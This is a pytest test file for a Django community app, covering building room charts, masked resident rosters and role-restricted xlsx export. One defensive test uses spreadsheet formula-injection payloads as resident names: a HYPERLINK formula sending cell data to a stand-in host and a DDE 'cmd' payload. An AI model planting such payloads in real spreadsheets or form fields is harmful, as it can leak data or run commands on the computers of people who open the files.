"""The building's room chart and the printable rosters."""

from __future__ import annotations

import datetime as dt
from io import BytesIO
from urllib.parse import quote

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from frontline.people.roomchart import room_chart
from frontline.people.visits import visit_record
from frontline.territory.models import Region
from frontline.territory.services import grid_create

from . import factories as f
from .conftest import ANKANG, PASSWORD


@pytest.fixture
def as_user(client):
    def sign_in(user):
        assert client.login(username=user.username, password=PASSWORD)
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        return client

    return sign_in


def region(path: str) -> Region:
    return Region.objects.get(path=path)


@pytest.fixture
def building(lu_an):
    """2栋: unit 1 with floors 1, 3 and 11 (302 from lu_an), unit 2 with one room."""
    for unit, room in (("1", "101"), ("1", "102"), ("1", "1101"), ("2", "201")):
        f.household(f"{ANKANG}/2栋", unit=unit, room=room)
    return region(f"{ANKANG}/2栋")


def test_floors_are_rows_top_first_and_rooms_are_columns_per_unit(building):
    units = room_chart(building, dt.date.today())

    assert [u.label for u in units] == ["1单元", "2单元"]
    first = units[0]
    assert first.positions == ["01", "02"]
    assert [floor.label for floor in first.floors] == ["11", "3", "1"]
    rooms = [[c.household.room if c else None for c in floor.cells] for floor in first.floors]
    assert rooms == [["1101", None], [None, "302"], ["101", "102"]]


def test_cells_carry_care_groups_members_and_todays_visit(building, grid_worker, lu_an):
    visit_record(
        actor=grid_worker, household=lu_an["ankang"][1], outcome="nobody_home", purpose="care"
    )
    visit_record(actor=grid_worker, household=lu_an["ankang"][1], outcome="visited", purpose="care")

    cells = {
        c.household.room: c
        for u in room_chart(building, dt.date.today())
        for fl in u.floors
        for c in fl.cells
        if c
    }

    assert cells["302"].groups == ["infant"]
    assert cells["302"].visit == "visited"
    assert cells["302"].household.lived_in and not cells["101"].household.lived_in
    assert cells["101"].visit == ""


def test_building_page_draws_the_chart_and_each_cell_opens_its_household(
    as_user, building, grid_worker, lu_an
):
    body = as_user(grid_worker).get(reverse("region_detail", args=[building.pk])).content.decode()

    assert 'class="chart"' in body
    assert (
        f'href="{reverse("household_detail", args=[lu_an["ankang"][1].pk])}'
        f'?next={quote(reverse("region_detail", args=[building.pk]), safe="/")}#visit" data-room="302"'
        in body
    )
    assert "Dialysis" in body  # the legend names every group


@pytest.mark.parametrize("extra", [0, 10])
def test_room_chart_costs_three_queries_whatever_the_size(
    building, django_assert_num_queries, extra
):
    for n in range(extra):
        hh = f.household(f"{ANKANG}/2栋", unit="3", room=f"{n + 1}01")
        f.resident(
            hh, f"住{n}", birth=dt.date(1950, 1, 1) + dt.timedelta(days=n), care_groups=("低保",)
        )
    with django_assert_num_queries(3):
        room_chart(building, dt.date.today())


def test_roster_lists_residents_by_building_and_masks_for_a_volunteer(as_user, lu_an, volunteer):
    response = as_user(volunteer).get(reverse("roster") + f"?region={region(ANKANG).pk}")

    body = response.content.decode()
    assert response.status_code == 200
    assert [b["building"].name for b in response.context["buildings"]] == ["1栋", "2栋"]
    assert "139****5678" in body and "13912345678" not in body
    assert "Download (.xlsx)" not in body


def test_roster_for_a_grid_point_covers_only_its_buildings(as_user, lu_an, grid_worker):
    point = grid_create(region=region(ANKANG), name="点一", coverage=[region(f"{ANKANG}/2栋")])

    response = as_user(grid_worker).get(
        reverse("roster") + f"?region={region(ANKANG).pk}&grid={point.pk}"
    )

    assert [b["building"].name for b in response.context["buildings"]] == ["2栋"]


def test_roster_xlsx_only_for_roles_that_may_export(as_user, lu_an, grid_worker, client):
    refused = as_user(grid_worker).get(
        reverse("roster") + f"?region={region(ANKANG).pk}&format=xlsx"
    )
    assert refused.status_code == 403


def test_roster_xlsx_for_staff(lu_an, community_staff, client):
    client.login(username=community_staff.username, password=PASSWORD)

    response = client.get(reverse("roster") + f"?building={region(f'{ANKANG}/1栋').pk}&format=xlsx")

    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0][:4] == ("楼栋", "单元", "房号", "姓名")
    assert rows[1][3] == "王秀英" and rows[1][5] == "独居老人"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/?"&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1)"]
)
def test_roster_xlsx_has_no_formula_cell(lu_an, community_staff, client, name):
    """Found by a newcomer's walk: the roster wrote a resident so named as a live formula."""
    household = f.household(f"{ANKANG}/1栋", room="102")
    f.resident(household, name=name, work_unit="-1")
    client.login(username=community_staff.username, password=PASSWORD)

    response = client.get(reverse("roster") + f"?building={region(f'{ANKANG}/1栋').pk}&format=xlsx")

    import zipfile

    with zipfile.ZipFile(BytesIO(response.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cells = [
        c
        for row in load_workbook(BytesIO(response.content)).active.iter_rows()
        for c in row
        if c.value == name
    ]
    assert cells and all(c.data_type == "s" for c in cells)


def test_roster_is_not_for_a_whole_district(as_user, town_staff):
    assert as_user(town_staff).get(reverse("roster")).status_code == 404


def test_print_stylesheet_hides_chrome_and_breaks_per_building():
    from pathlib import Path

    css = Path(settings.BASE_DIR / "core/static/frontline/app.css").read_text()
    printing = css[css.index("@media print") :]
    assert ".top" in printing and ".no-print" in printing and "button" in printing
    assert "break-before: page" in printing
    assert "size: A4" in css


@pytest.mark.parametrize("extra", [0, 12])
def test_roster_query_count_is_bounded(
    as_user, lu_an, grid_worker, django_assert_num_queries, extra
):
    for n in range(extra):
        hh = f.household(f"{ANKANG}/{n % 3 + 1}栋", room=f"6{n:02d}")
        f.resident(
            hh, f"住{n}", birth=dt.date(1950, 3, 1) + dt.timedelta(days=n), care_groups=("低保",)
        )
    client = as_user(grid_worker)
    url = reverse("roster") + f"?region={region(ANKANG).pk}"
    # session, user, the jurisdiction, the region asked for, residents, their care
    # groups, the audit insert.
    with django_assert_num_queries(7):
        client.get(url)
